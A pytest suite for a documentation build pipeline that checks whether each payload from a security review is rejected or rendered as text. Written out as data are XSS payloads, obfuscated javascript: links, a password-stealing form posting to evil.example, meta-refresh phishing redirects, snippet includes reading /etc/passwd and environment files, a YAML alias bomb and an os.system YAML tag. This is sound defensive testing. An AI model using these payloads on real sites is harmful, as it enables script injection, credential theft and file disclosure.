"""Every payload of the November 2026 security review (issue 10), table-driven.

Each payload is rejected by the check at the right `path:line` (or, for the few the review
found harmless, accepted and shown as text). The browser half (tests/browser/test_payloads.py)
builds ONE site holding every payload with the checks bypassed, through the real
`mkdocs build --strict`, and proves each is inert on its own: the sanitizer, the escaping
and the CSP hold even if the check were wrong.
"""
from __future__ import annotations

import os
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from handbook.pipeline import Paths, build
from handbook.render import neutralise_includes
from handbook.sanitize import markdown_renderer, sanitize_html

HEAD = '---\ntitle: "Zorb security test"\nadded: 2030-01-01\n---\n\n'
QUESTION = "## What is the quux frobnicator zorbulation?\n\n"
ANSWER = "A quux frobnicator zorbulates the widget pipeline before every nightly run."
OVERLAY = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#c00;color:#fff;font:bold 64px sans-serif"


@dataclass(frozen=True)
class Payload:
    id: str
    article: str  # the whole articles/zz-sec.md
    expect: tuple[tuple[int, str], ...]  # (line, message fragment) in zz-sec.md; () = accepted, harmless
    extra: dict[str, str] = field(default_factory=dict)  # more files under articles/: name -> text, or "->target" for a symlink
    strict_build: bool = True  # False: `mkdocs build --strict` itself rejects it (a link MkDocs cannot resolve)


def body(text: str) -> str:
    """The standard article with `text` after the answer's first line."""
    return HEAD + QUESTION + ANSWER + text + "\n"


def intro(text: str) -> str:
    return HEAD + text + "\n\n" + QUESTION + ANSWER + "\n"


def meta(lines: str) -> str:
    return '---\ntitle: "Zorb security test"\n' + lines + "added: 2030-01-01\n---\n\n" + QUESTION + ANSWER + "\n"


PLAIN = "is plain text"
SCRIPT = "raw HTML <script> is not allowed"
HANDLER = "event-handler attribute on"
STYLE = "style attributes are not allowed"
LINK = "only http:, https:, mailto:, relative and #anchor links are allowed"
IMAGE = "images must come from this site"
SNIPPET = "'--8<--' (a snippet include) is not allowed"
SMUGGLE = '<div title="`">{}<b title="`"></b></div>'

PAYLOADS = [
    # Confirmed bypasses: front matter and headings (now plain text everywhere)
    Payload("T1", "---\ntitle: \"Zorb <img src=x onerror=\\\"window.__pwned='T1'\\\">\"\nadded: 2030-01-01\n---\n\n" + QUESTION + ANSWER + "\n", ((2, PLAIN),)),
    Payload("T2", "---\ntitle: \"Zorb <script>window.__pwned='T2'</script>\"\nadded: 2030-01-01\n---\n\n" + QUESTION + ANSWER + "\n", ((2, PLAIN),)),
    Payload("T3", f'---\ntitle: "Zorb <span id=\\"zzov\\" style=\\"{OVERLAY}\\">DEFACED</span>"\nadded: 2030-01-01\n---\n\n' + QUESTION + ANSWER + "\n", ((2, PLAIN),)),
    Payload("H1", HEAD + "## What is the quux <img src=x onerror=\"window.__pwned='H1'\"> zorbulation?\n\n" + ANSWER + "\n", ((6, PLAIN),)),
    Payload("H2", HEAD + "## What is the quux zorbulation <script>window.__pwned='H2'</script>?\n\n" + ANSWER + "\n", ((6, PLAIN),)),
    Payload("H3", HEAD + f'## What is the quux zorbulation <span id="zzov" style="{OVERLAY}">DEFACED</span>?\n\n' + ANSWER + "\n", ((6, PLAIN),)),
    Payload("N1", meta("source:\n  name: \"Acme <img src=x onerror=\\\"window.__pwned='N1'\\\">\"\n"), ((4, PLAIN),)),
    Payload("N2", meta("source:\n  name: \"Acme\"\n  author: \"Jane <img src=x onerror=\\\"window.__pwned='N2'\\\">\"\n"), ((5, PLAIN),)),
    Payload("N3", meta("source:\n  name: \"Acme\"\n  license: \"CC <img src=x onerror=\\\"window.__pwned='N3'\\\">\"\n"), ((5, PLAIN),)),
    Payload("N4", meta("source:\n  name: \"Acme\"\n  published: \"2024 <img src=x onerror=\\\"window.__pwned='N4'\\\">\"\n"),
            ((5, "source published must be a date"),)),
    Payload("N5", meta("source:\n  name: \"Acme\"\n  url: \"https://example.org/><svg/onload=window.__pwned=document.domain>\"\n"),
            ((5, "source url must be a full http:// or https:// address"),)),
    # Confirmed bypasses: raw HTML the old line-by-line denylist missed
    Payload("B3", intro(SMUGGLE.format("<script>window.__pwned='B3'</script>")), ((6, SCRIPT),)),
    Payload("B3c", body(" \\`<script>window.__pwned='B3c'</script>\\`"), ((8, SCRIPT),)),
    Payload("B1", body("\n<img src=x\nonerror=\"window.__pwned='B1'\">"), ((10, HANDLER),)),
    Payload("B2", body(" \\`<img src=x onerror=\"window.__pwned='B2'\">\\`"), ((8, HANDLER),)),
    Payload("B4", body("\n\n![x](../assets/handbook.css){: data-x=\"}\" onerror=\"window.__pwned='B4'\" }"), ((10, HANDLER),)),
    Payload("B11", body("\n<svg><animate attributeName=\"x\" dur=\"1s\"\nonbegin=\"window.__pwned='B11'\"></animate></svg>"), ((9, "raw HTML <svg> is not allowed"),)),
    Payload("B12", body("\n<details open\nontoggle=\"window.__pwned='B12'\"><summary>x</summary>y</details>"), ((10, HANDLER),)),
    Payload("B14", intro("<img src=x\nonerror=\"window.__pwned='B14'\">"), ((7, HANDLER),)),
    Payload("B9d", intro(SMUGGLE.format("<iframe srcdoc=\"&lt;script&gt;parent.window.__pwned='B9d'&lt;/script&gt;\"></iframe>")),
            ((6, "raw HTML <iframe> is not allowed"),)),
    Payload("B9b", intro(SMUGGLE.format('<base href="https://evil.example/">')), ((6, "raw HTML <base> is not allowed"),)),
    Payload("B9", intro(SMUGGLE.format('<meta http-equiv="refresh" content="0;url=https://evil.example/phish">')), ((6, "raw HTML <meta> is not allowed"),)),
    Payload("B10", intro(f'<a id="zzov" href="https://evil.example/clickjack" style="{OVERLAY}"></a>'), ((6, STYLE),)),
    Payload("B9c", intro(SMUGGLE.format('<form action="https://evil.example/steal"><input name="password" type="password" value="hunter2">'
                                        '<button id="zzbtn">CLICKME</button></form>')), ((6, "raw HTML <form> is not allowed"),)),
    Payload("B5", body(" <a href=\"java&#9;script:void(window.__pwned='B5')\">CLICKME</a>"), ((8, LINK),)),
    Payload("B5c", body(" <a href=\"java\nscript:void(window.__pwned='B5c')\">CLICKME</a>"), ((8, LINK),)),
    Payload("B5f", body("\n\n<svg width=\"300\" height=\"40\"><a href=\"java&#9;script:void(window.__pwned='B5f')\"><text x=\"5\" y=\"25\">CLICKME</text></a></svg>"),
            ((10, "raw HTML <svg> is not allowed"),)),
    Payload("B4b", body("\n\nCLICKME\n{: data-x=\"}\" onclick=\"window.__pwned='B4b'\" }"), ((11, HANDLER),)),
    Payload("B7", intro(f'<div id="zzov" style="{OVERLAY};display:flex">DEFACED</div>'), ((6, STYLE),)),
    Payload("B7b", intro(f'DEFACED\n{{: #zzov style="{OVERLAY};margin:0" }}'), ((7, STYLE),)),
    Payload("B7c", body(f'\n\n<div id="zzov" style="{OVERLAY}">DEFACED</div>'), ((10, STYLE),)),
    Payload("B7d", intro(SMUGGLE.format("<style>.md-header,.md-tabs{display:none!important}body,.md-main{background:#c00!important}</style>")),
            ((6, "raw HTML <style> is not allowed"),)),
    Payload("B8", intro("![](https://evil.example/pixel.png)"), ((6, IMAGE),)),
    Payload("B8b", intro('<span style="display:inline-block;width:5px;height:5px;background:url(https://evil.example/css.png)"></span>'), ((6, STYLE),)),
    Payload("B8c", body('\n\n<img src="https://evil.example/answer.png">'), ((10, IMAGE),)),
    # Confirmed bypasses: snippet includes (and the files they would read)
    Payload("S1", body("\n\n```html\n<img src=x onerror=\"window.__pwned='S1'\">\n```\n\n--8<-- \"articles/zz-sec.md:11:11\""), ((14, SNIPPET),)),
    Payload("S7", body("\n\n--8<-- \"articles/payload.html\""), ((10, SNIPPET),), {"payload.html": "<script>window.__pwned='S7'</script>\n"}),
    Payload("S5", body("\n\n```text\n--8<-- \"articles/notes-env.txt\"\n```"), ((11, SNIPPET),), {"notes-env.txt": "->/proc/self/environ"}),
    Payload("S6", body("\n\n```text\n--8<-- \"articles/notes-passwd.txt\"\n```"), ((11, SNIPPET),), {"notes-passwd.txt": "->/etc/passwd"}),
    Payload("S4", body("\n\n```ini\n--8<-- \".git/config\"\n```"), ((11, SNIPPET),)),
    # The controls, and the attempts that failed in the review: still rejected, or harmless text
    Payload("C1", body("\n<script>window.__pwned='C1'</script>"), ((9, SCRIPT),)),
    Payload("C2", body("\n<img src=x onerror=\"window.__pwned='C2'\">"), ((9, HANDLER),)),
    Payload("C3", body("\n[CLICKME](javascript:window.__pwned='C3')"), ((9, LINK),), strict_build=False),
    Payload("C4", body("\n\nCLICKME\n{: onclick=\"window.__pwned='C4'\" }"), ((11, HANDLER),)),
    Payload("C5", body("\n<style>body{display:none}</style>"), ((9, "raw HTML <style> is not allowed"),)),
    Payload("C6", intro('<meta http-equiv="refresh" content="0;url=https://evil.example/c6">'), ((6, "raw HTML <meta> is not allowed"),)),
    Payload("B3b", body("\n\n" + SMUGGLE.format("<script>window.__pwned='B3b'</script>")), ((10, SCRIPT),)),
    Payload("B5b", body(" [CLICKME](java&#9;script:void(window.__pwned='B5b'))"), ((8, LINK),), strict_build=False),
    Payload("B5d", body(" [CLICKME](java&Tab;script:void(window.__pwned='B5d'))"), ((8, LINK),), strict_build=False),
    Payload("B5e", body(" [CLICKME](https://example.org){: href=\"java&#9;script:void(window.__pwned='B5e')\" }"), ((8, LINK),), strict_build=False),
    Payload("B5g", body(" <a href=\"java\tscript:void(window.__pwned='B5g')\">CLICKME</a>"), ()),  # a relative link once tabs expand
    Payload("B6", body(" <a href=\"data&#9;:text/html,&lt;script&gt;parent.__pwned='B6'&lt;/script&gt;\">CLICKME</a>"), ((8, LINK),)),
    Payload("B13", body("\n\nThe ZORB layer.\n\n*[ZORB]: x\" onmouseover=\"window.__pwned='B13'"), ()),  # the abbr title is escaped
    Payload("S2", body('\n\n--8<-- "/etc/passwd"'), ((10, SNIPPET),)),
    Payload("S3", body('\n\n--8<-- "../../etc/passwd"'), ((10, SNIPPET),)),
    Payload("S8", body('\n\n--8<-- "https://evil.example/x.md"'), ((10, SNIPPET),)),
    Payload("M1", HEAD.replace("Zorb security test", "Zorb zz{{ 7*7 }}zz") + "## What is the quux {{ config.repo_url }} zorbulation?\n\n"
            + ANSWER + " zz{{ 7*7 }}zz {% include 'base.html' %}\n", ()),
    Payload("F1", body(" `<img src=x onerror=\"window.__pwned='F1'\">`"), ()),
    Payload("F2", HEAD + "## What is the quux &lt;img src=x onerror=window.__pwned='F2'&gt; zorbulation?\n\n" + ANSWER + "\n", ()),
    Payload("VB", body(" [CLICKME](vbscript:msgbox(1))"), ((8, LINK),), strict_build=False),
]
D1_BOMB = ('---\ntitle: "Zorb security test"\nsource:\n  name: Acme\n  published: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
           "  x1: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n  x2: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n  x3: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
           "  x4: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n  x5: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n  x6: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
           "  x7: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\n  x8: [*h,*h,*h,*h,*h,*h,*h,*h,*h]\nadded: 2030-01-01\n---\n\n" + QUESTION + ANSWER + "\n")


def write_articles(folder: Path, files: dict[str, str]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        if text.startswith("->"):
            (folder / name).symlink_to(text[2:])
        else:
            (folder / name).write_text(text, encoding="utf-8")


def check(tmp_path: Path, files: dict[str, str]) -> list[str]:
    """What `build_handbook.py --check` reports (the same pipeline call), as strings."""
    arts = tmp_path / "articles"
    write_articles(arts, files)
    result = build(Paths.default(tmp_path, arts, topics=Path(__file__).parent.parent / "config" / "topics.yml"), anki=False)
    return [str(p) for p in result.problems]


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.id for p in PAYLOADS])
def test_the_check_rejects_each_payload_at_its_line(tmp_path: Path, payload: Payload):
    found = check(tmp_path, {"zz-sec.md": payload.article, **payload.extra})
    for line, message in payload.expect:
        assert any(f.startswith(f"articles/zz-sec.md:{line}: ") and message in f for f in found), found
    if not payload.expect:
        assert found == [], found
    for name in payload.extra:  # a non-article file or a symlink is an error of its own
        assert any(f.startswith(f"articles/{name}:1: ") for f in found), found


def test_the_yaml_alias_bomb_is_refused_before_it_expands(tmp_path: Path):
    import time

    start = time.perf_counter()
    found = check(tmp_path, {"zz-sec.md": D1_BOMB})
    assert time.perf_counter() - start < 5
    assert any(f.startswith("articles/zz-sec.md:5: YAML anchor '&a' is not allowed") for f in found), found
    assert any(f.startswith("articles/zz-sec.md:6: YAML alias '*a' is not allowed") for f in found), found


@pytest.mark.parametrize("front, line, message", [
    ('title: !!python/object/apply:os.system ["echo hi"]\n', 2, "YAML tag"),
    ("title: !!binary aGk=\n", 2, "YAML tag"),
    ("title: [a, list]\n", 2, "non-empty 'title'"),
    ("title: {a: map}\n", 2, "non-empty 'title'"),
    ('title: "T"\nsource:\n  name: [x]\n', 4, "source name must be text"),
    ('title: "T"\nsource:\n  published: 2024\n', 4, "published must be a date"),
    ('title: "T"\nsource:\n  url: "https://exa mple.org"\n', 4, "source url"),
    ('title: "T"\nsource:\n  url: "javascript://example.org/%0aalert(1)"\n', 4, "source url"),
    ('title: "T"\nsource:\n  url: "https://"\n', 4, "source url"),
    ('title: "T"\nsource:\n  url: "https://example.org:99999/"\n', 4, "source url"),
    ('title: "T"\nlevel: [senior]\n', 3, "level must be one of"),
])
def test_front_matter_surprises_are_line_errors(tmp_path: Path, front: str, line: int, message: str):
    found = check(tmp_path, {"a.md": f"---\n{front}---\n\n## What is X?\n\nX.\n"})
    assert any(f.startswith(f"articles/a.md:{line}: ") and message in f for f in found), found


def test_parse_and_content_problems_are_reported_in_one_run(tmp_path: Path):
    text = HEAD + "## What is X?\n\n## What is Y?\n\nY does it. <script>window.x=1</script>\n"
    found = check(tmp_path, {"a.md": text})
    # an answer-less question that merges nowhere is an error too (asked-only questions must merge)
    assert any(f.startswith("articles/a.md:6: question 'What is X?' has no answer and merges into no answered entry") for f in found), found
    assert any(f.startswith("articles/a.md:10: raw HTML <script>") for f in found), found


def test_a_symlinked_article_and_a_subfolder_symlink_are_errors(tmp_path: Path):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "b.md").write_text(HEAD + QUESTION + ANSWER + "\n", encoding="utf-8")
    found = check(tmp_path, {"a.md": HEAD + QUESTION + ANSWER + "\n", "b.md": f"->{tmp_path / 'outside' / 'b.md'}",
                             "sub": f"->{tmp_path / 'outside'}", "LICENSE": "CC BY-SA 4.0\n"})
    assert "articles/b.md:1: symbolic links are not allowed under articles/: commit the article itself" in found
    assert "articles/sub:1: symbolic links are not allowed under articles/: commit the article itself" in found
    assert not any(f.startswith("articles/LICENSE") for f in found), found


def test_the_project_articles_folder_holds_only_articles_and_its_licence(root: Path):
    from handbook.parse import stray_files

    assert stray_files(root / "articles", root) == []
    assert not any(p.is_symlink() for p in (root / "docs" / "includes").rglob("*"))


# The payloads the strict build rejects on its own still need the sanitizer to hold.
@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not p.strict_build], ids=lambda p: p.id)
def test_sanitized_html_of_links_mkdocs_rejects_is_inert(payload: Payload):
    html = sanitize_html(markdown_renderer().convert(payload.article.split("---\n", 2)[2]))
    assert "script:" not in html.replace("\t", "") and "href=\"java" not in html, html


def test_includes_that_reach_a_page_are_escaped():
    text = 'x\n--8<-- "a.md"\n    --8<--\n    b.md\n    --8<--\nsee --8<-- [start:s]\n;--8<-- "escaped.md"\n'
    out = neutralise_includes(text)
    assert out == 'x\n;--8<-- "a.md"\n    ;--8<--\n    b.md\n    ;--8<--\nsee ;--8<-- [start:s]\n;;--8<-- "escaped.md"\n'


def test_plain_text_fields_render_as_text(tmp_path: Path, root: Path):
    """Titles, headings and source fields reach generated Markdown escaped (checks bypassed)."""
    arts = tmp_path / "articles"
    write_articles(arts, {"zz-t1.md": PAYLOADS[0].article, "zz-n1.md": next(p for p in PAYLOADS if p.id == "N1").article,
                          "zz-h2.md": next(p for p in PAYLOADS if p.id == "H2").article})
    result = build(Paths.default(root, arts), anki=True, checks=False)
    assert result.ok
    pages = "\n".join(result.pages.values())
    assert "<img" not in pages and "<script" not in pages
    assert 'title: "Zorb &lt;img src=x onerror=\\"window.__pwned=\'T1\'\\"&gt;"' in result.pages["sources/zz-t1.md"]
    import csv
    import io
    import zipfile

    rows = list(csv.reader(io.StringIO(result.files["questions.csv"].decode())))
    assert any("<script>" in cell for row in rows for cell in row)  # data exports keep the text as text
    with zipfile.ZipFile(io.BytesIO(result.files["mlops-interview-handbook.apkg"])) as deck:
        collection = deck.read("collection.anki2")
    assert b"<script>window" not in collection and b"&lt;script&gt;" in collection


def test_checks_cannot_be_bypassed_from_the_command_line_or_environment():
    cli = (Path(__file__).parent.parent / "scripts" / "build_handbook.py").read_text(encoding="utf-8")
    hooks = (Path(__file__).parent.parent / "scripts" / "mkdocs_hooks.py").read_text(encoding="utf-8")
    assert "checks=" not in cli and "checks=" not in hooks
    assert not any("CHECK" in k for k in os.environ if k.startswith("HANDBOOK"))


def test_every_page_the_hook_generates_is_sanitized(monkeypatch):
    """on_page_content sanitizes a page exactly when its File was generated by the hook."""
    import mkdocs_hooks

    class FakeFile:
        def __init__(self, generated: bool):
            self.generated_by = "handbook" if generated else None

    class FakePage:
        def __init__(self, generated: bool):
            self.file = FakeFile(generated)

    dirty = '<p style="x" onclick="y">t</p><script>z</script>'
    assert mkdocs_hooks.on_page_content(dirty, FakePage(True), None, None) == "<p>t</p>"
    assert mkdocs_hooks.on_page_content(dirty, FakePage(False), None, None) == dirty


def test_an_impossible_date_is_a_line_error(tmp_path: Path):
    found = check(tmp_path, {"a.md": '---\ntitle: "T"\nadded: 2024-13-45\n---\n\n## What is X?\n\nX.\n'})
    assert any(f.startswith("articles/a.md:3: front matter has a value YAML cannot read") for f in found), found


def test_overrides_with_html_ids_or_aliases_are_rejected(tmp_path: Path, root: Path):
    """O1 (HTML in ids) and D1's twin in config/overrides.yml (an alias bomb)."""
    arts = tmp_path / "articles"
    write_articles(arts, {"zz-sec.md": HEAD + QUESTION + ANSWER + "\n"})
    overrides = tmp_path / "overrides.yml"
    overrides.write_text("merge:\n  - [\"<img src=x onerror=alert(1)>\", zz-sec/what-is-the-quux-frobnicator-zorbulation]\n"
                         "topics:\n  zz-sec/what-is-the-quux-frobnicator-zorbulation: \"<script>alert(1)</script>\"\n", encoding="utf-8")
    found = [str(p) for p in build(Paths.default(root, arts, overrides=overrides), anki=False).problems]
    assert any(":2: unknown question id '<img src=x onerror=alert(1)>'" in f for f in found), found
    assert any("unknown topic '<script>alert(1)</script>'" in f for f in found), found
    overrides.write_text("merge:\n  - &a [x, y]\n  - *a\n", encoding="utf-8")
    found = [str(p) for p in build(Paths.default(root, arts, overrides=overrides), anki=False).problems]
    assert any(":2: YAML anchor '&a' is not allowed in config" in f for f in found), found


@pytest.mark.parametrize("front, body_line, line", [
    ('title: "T\\n::error::forged"\n', "", 2),
    ('title: "T"\nsource:\n  name: "A\\u001b[2J"\n', "", 4),
    ('title: "T"\n', "\x1b]0;x\x07", 5),
])
def test_control_characters_in_plain_text_fields_are_line_errors(tmp_path: Path, front: str, body_line: str, line: int):
    found = check(tmp_path, {"a.md": f"---\n{front}---\n\n## What is X{body_line}?\n\nX.\n"})
    if body_line:
        line = front.count("\n") + 4
    assert any(f.startswith(f"articles/a.md:{line}: ") and "is plain text on one line" in f for f in found), found
